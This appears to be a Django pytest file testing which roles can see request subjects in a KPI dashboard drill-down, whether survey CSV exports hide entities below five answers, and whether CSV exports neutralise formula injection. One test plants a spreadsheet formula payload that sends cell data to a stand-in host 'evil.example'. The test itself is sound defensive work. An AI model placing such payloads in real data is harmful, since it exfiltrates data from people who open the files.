"""What the dashboard's drill-down and the indicators' CSV exports let each role see (issue 15.5 / 15.8).

The drill-down lists request subjects: the CIO reads every request (read-only), relationship managers
work them all, a directorate correspondent reads only their directorate's, as in the mailbox.
"""

import csv
import io

import pytest
from django.urls import reverse

from catalogue.models import FamilyPage, ServicePage
from kpis.models import Survey, SurveyAnswer, SurveyKind
from requests_box.selectors import requests_visible_to
from tests.kpis.test_dashboard import CSV, Q3_PARAMS, at, make_request, world  # noqa: F401
from tests.kpis.test_survey_results import fill

pytestmark = pytest.mark.usefixtures("world")


def drill(code: str) -> str:
    return reverse("kpis:directorate", args=[code])


@pytest.fixture
def secret(entity_b):
    return make_request(entity_b, at(2026, 8, 21), subject="Licenciement confidentiel")


def test_a_correspondent_drills_down_only_into_requests_they_may_open(client_for, correspondent_a, secret):
    client = client_for(correspondent_a)
    response = client.get(drill("DCOM"), Q3_PARAMS)
    listed = list(response.context["page"].object_list)
    assert len(listed) == 3
    assert {r.entity.directorate.code for r in listed} == {"DCOM"}
    assert "Licenciement confidentiel" not in response.content.decode()
    visible = set(requests_visible_to(correspondent_a).values_list("pk", flat=True))
    assert {r.pk for r in listed} <= visible
    for item in listed:  # each listed reference opens in the mailbox for them
        assert client.get(reverse("requests_box:request_detail", args=[item.reference])).status_code == 200
    other = client.get(drill("DRH"), Q3_PARAMS)
    assert other.status_code == 403 and "Licenciement confidentiel" not in other.content.decode()


@pytest.mark.parametrize("persona", ["cio", "relationship_manager"])
def test_the_cio_and_relationship_managers_read_every_directorates_subjects(
    request, client_for, persona, secret
):
    client = client_for(request.getfixturevalue(persona))
    page = client.get(drill("DRH"), Q3_PARAMS).content.decode()
    assert "Licenciement confidentiel" in page
    assert reverse("requests_box:request_detail", args=[secret.reference]) in page


@pytest.mark.parametrize("persona", ["user_a", "user_b", "product_manager", "team_member", "editor"])
def test_no_other_role_drills_down(request, client_for, persona, secret):
    client = client_for(request.getfixturevalue(persona))
    for code in ("DCOM", "DRH"):
        response = client.get(drill(code), Q3_PARAMS)
        assert response.status_code == 403
        assert "Licenciement confidentiel" not in response.content.decode()


def test_the_dashboard_csv_neutralises_a_service_named_like_a_formula(client_for, cio):
    family = FamilyPage.objects.get(code="DASH-FAM")
    family.add_child(
        instance=ServicePage(
            title='=HYPERLINK("http://evil.example/?d="&B2,"x")',
            slug="evil",
            code="+EVIL",
            maturity="nouveau",
        )
    )
    response = client_for(cio).get(CSV, Q3_PARAMS)
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    services = rows[rows.index([]) + 1 :]
    assert services[0][:2] == ["service", "service_title"]
    evil = next(row for row in services if row[0] == "'+EVIL")
    assert evil[1] == '\'=HYPERLINK("http://evil.example/?d="&B2,"x")'
    assert next(row for row in services if row[0] == "S1")[1:3] == ["Messagerie", "2"]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_an_anonymous_survey_csv_names_an_entity_only_from_five_answers(
    client_for, relationship_manager, entity_a, entity_b
):
    barometer = Survey.objects.create(code="anon", title="Anonyme", kind=SurveyKind.BAROMETRE, anonymous=True)
    fill(barometer, entity_a, entity_b)  # 6 answers from entity A, 4 from entity B
    url = reverse("kpis:survey_export_csv", args=[barometer.code])
    rows = list(csv.reader(io.StringIO(client_for(relationship_manager).get(url).content.decode())))[1:]
    places = {tuple(row[1:4]) for row in rows}
    assert places == {
        ("Direction Commerciale", "Ventes Grands Comptes", "Métier"),
        ("Direction des Ressources Humaines", "", ""),
    }
    # Filtered to directorate A with one answer less: 5 answers, still named; then 4: not named.
    SurveyAnswer.objects.filter(survey=barometer, entity=entity_a).first().delete()
    filtered = client_for(relationship_manager).get(url, {"directorate": "DCOM"}).content.decode()
    assert "Ventes Grands Comptes" in filtered
    SurveyAnswer.objects.filter(survey=barometer, entity=entity_a).first().delete()
    assert "Ventes Grands Comptes" not in client_for(relationship_manager).get(url).content.decode()
